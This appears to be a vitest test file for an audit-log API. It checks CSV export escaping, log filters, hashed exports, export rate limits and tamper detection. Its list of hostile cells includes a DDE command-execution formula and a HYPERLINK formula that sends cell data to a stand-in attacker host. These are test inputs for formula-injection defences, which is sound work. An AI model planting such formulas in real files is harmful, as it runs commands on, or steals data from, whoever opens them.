import { createHash } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { expect, test } from 'vitest';
import { z } from 'zod';
import { toCsv } from '../../domain/csv.ts';
import { auditKeys, publicKeysOf } from '../../db/audit-keys.ts';
import { sealNext } from '../../db/seal-audit.ts';
import { count, makeKey, useTestApi, type CallOptions } from './support/test-api.ts';

const EXPORTS_PER_HOUR = 5;
const api = useTestApi({
  network: { limits: { exports: { points: EXPORTS_PER_HOUR, seconds: 3_600 } } },
});
const keys = auditKeys.parse(`a1:${createHash('sha256').update('seals').digest('base64')}`);

/** Cells that spreadsheets take for formulas or commands, and some that only look odd. */
const HOSTILE = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?"&A1,"x")',
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
  'a,b',
  'a"b',
  'a;b',
  'line\nbreak',
  'line\r\nbreak',
  "'quoted",
  ' =1+1',
  '',
  'ünïcödé 😀',
];

const writeRow = (action: string, actor: string, userAgent: string | null = null) =>
  api.db.run(
    z.never(),
    `insert into audit_logs (action, status, actor, user_agent, ip_address, details) values ($1, 'INFO', $2, $3, '192.0.2.77', $4::text::jsonb)`,
    [action, actor, userAgent, JSON.stringify({ said: userAgent })],
  );

const lastAudit = async (action: string) => {
  const [row] = await api.db.run(
    z.object({ actor: z.string(), details: z.record(z.string(), z.unknown()) }),
    'select actor, details from audit_logs where action = $1 order by id desc limit 1',
    [action],
  );
  return row;
};

test('CSV cells survive a round trip, and none begins as a formula does', () => {
  const lines = parse(
    toCsv(
      HOSTILE.map((cell) => [cell, -5, null]),
      null,
    ),
    {
      record_delimiter: '\r\n',
    },
  );
  expect(lines).toHaveLength(HOSTILE.length);
  lines.forEach(([cell = '', number], index) => {
    const given = HOSTILE[index] ?? '';
    expect([given, `'${given}`]).toContain(cell);
    expect(cell).not.toMatch(/^[=+\-@\t\r\n\0＝＋－＠]/);
    expect(number).toBe('-5');
  });
});

test('the log is read by the beginning of an action, by address, and row by row; that it was read stands in it', async () => {
  await writeRow('thing.made', 'key:one');
  await writeRow('thing.done', 'key:two');
  await writeRow('thingy.done', 'key:three');
  const all = await api.get('/audit-logs?action=thing.&ipAddress=192.0.2.77');
  expect(all.list('auditLogs').map((row) => Reflect.get(Object(row), 'actor'))).toEqual([
    'key:two',
    'key:one',
  ]);
  expect((await api.get('/audit-logs?ipAddress=192.0.2.78')).list('auditLogs')).toEqual([]);
  expect((await lastAudit('audit.viewed'))?.details).toMatchObject({
    kind: 'list',
    filter: { ipAddress: '192.0.2.78' },
    rows: 0,
  });
  const id = String(all.at('auditLogs.0.id'));
  expect((await api.get(`/audit-logs/${id}`)).at('action')).toBe('thing.done');
  expect((await lastAudit('audit.viewed'))?.details).toEqual({ kind: 'row', id: Number(id) });
  expect((await api.get('/audit-logs/999999999')).status).toBe(404);
  expect((await api.get('/audit-logs/x')).status).toBe(404);
  expect((await api.get(`/audit-logs/${id}`, { as: 'operator' })).status).toBe(403);
});

test('an export holds every row that matches, as it is, and is written down with its hash', async () => {
  for (const cell of HOSTILE.filter((text) => !text.includes('\0'))) {
    await writeRow('export.test', 'key:x', cell);
  }
  await api.db.run(
    z.never(),
    `insert into audit_logs (action, status, actor, details)
     select 'export.test', 'INFO', 'key:many', jsonb_build_object('i', i) from generate_series(1, 2500) i`,
  );
  const rows = await count(
    api.db,
    "select count(*) as n from audit_logs where action = 'export.test'",
  );
  const csv = await api.get('/audit-logs/export?format=csv&action=export.test');
  expect(csv.status).toBe(200);
  expect(csv.headers.get('content-disposition')).toBe('attachment; filename="audit-logs.csv"');
  const parsed = parse(csv.text, { columns: true, record_delimiter: '\r\n' });
  expect(parsed).toHaveLength(rows);
  expect(parsed[0]).toMatchObject({ action: 'export.test', actor: 'key:x' });
  const agents = parsed.map((row) => Reflect.get(Object(row), 'userAgent'));
  expect(agents.filter((text) => /^[=+\-@\t\r\n]/.test(String(text)))).toEqual([]);
  const finished = await lastAudit('export.finished');
  expect(finished?.details).toMatchObject({
    kind: 'audit_logs',
    format: 'csv',
    rows,
    sha256: createHash('sha256').update(csv.text).digest('hex'),
  });
  expect((await lastAudit('export.created'))?.details).toMatchObject({
    exportId: finished?.details['exportId'],
    filter: { action: 'export.test' },
  });

  const lines = await api.get('/audit-logs/export?format=jsonl&action=export.test');
  const read = lines.text
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line));
  expect(read).toHaveLength(rows);
  expect(read.map(({ userAgent }) => userAgent).filter(Boolean)).toEqual(
    HOSTILE.filter((text) => text !== '' && !text.includes('\0')),
  );
  expect((await api.get('/audit-logs/export', { as: 'operator' })).status).toBe(403);
  expect((await api.get('/audit-logs/export?format=xml')).status).toBe(422);
});

test('an export whose reader goes away is written down as not finished', async () => {
  const { secret } = await makeKey(api.db, 'admin');
  const answer = await api.app.request(
    '/api/disbursement/audit-logs/export?action=export.test',
    { headers: { authorization: `Bearer ${secret}` } },
    {},
  );
  const reader = answer.body?.getReader();
  await reader?.read();
  await reader?.cancel();
  await expect
    .poll(() =>
      count(
        api.db,
        "select count(*) as n from audit_logs where action = 'export.finished' and status = 'FAILURE'",
      ),
    )
    .toBe(1);
});

test('a third export within an hour is held until somebody else has looked, and each try is counted', async () => {
  const { id, secret } = await makeKey(api.db, 'admin');
  const options: CallOptions = { as: null, headers: { authorization: `Bearer ${secret}` } };
  const tryExport = async () => {
    const { status } = await api.get('/audit-logs/export?action=nothing.', options);
    return status;
  };
  const made = () =>
    count(
      api.db,
      "select count(*) as n from audit_logs where action = 'export.created' and actor = $1",
      [`key:${id}`],
    );
  expect([await tryExport(), await tryExport(), await tryExport()]).toEqual([200, 200, 409]);
  expect(await made()).toBe(2);
  const [event] = await api.db.run(
    z.object({ id: z.string(), rule: z.string() }),
    "select id, rule from risk_events where actor = $1 and status = 'OPEN'",
    [`key:${id}`],
  );
  expect(event?.rule).toBe('bulk_reveal');
  expect(await tryExport()).toBe(409);
  const word = { resolution: 'false_alarm', reason: 'the yearly audit' };
  expect((await api.post(`/risk-events/${event?.id}/resolve`, word)).status).toBe(200);
  expect(await tryExport()).toBe(200);
  expect(await made()).toBe(3);
  expect(await tryExport()).toBe(429);
  expect(await made()).toBe(3);
});

test('the API checks the newest seals, names what was changed, and says that signatures need public keys', async () => {
  while ((await sealNext(api.db, keys)).more);
  const whole = await api.get('/audit-logs/verify');
  expect(whole.body).toMatchObject({
    ok: true,
    findings: [],
    signatures: 'not_checked',
    from: 1,
    to: 1,
    height: 1,
  });
  expect((await api.get('/health')).at('auditHeight')).toBe(1);
  expect((await api.call('GET', '/metrics', { as: null })).text).toMatch(
    /^bursar_audit_height 1$/m,
  );
  await api.db.run(z.never(), 'alter table audit_logs disable trigger audit_logs_append_only');
  await api.db.run(z.never(), "update audit_logs set actor = 'key:nobody' where actor = 'key:two'");
  await api.db.run(z.never(), 'alter table audit_logs enable trigger audit_logs_append_only');
  const changed = await api.get('/audit-logs/verify');
  expect(changed.at('ok')).toBe(false);
  expect(changed.at('findings.0.code')).toBe('rows_changed');
  expect(changed.list('findings.0.changedIds')).toHaveLength(1);
  expect((await lastAudit('audit.viewed'))?.details).toMatchObject({ kind: 'verify', ok: false });
  expect((await api.get('/audit-logs/verify', { as: 'operator' })).status).toBe(403);
  expect(publicKeysOf(keys).size).toBe(1);
});
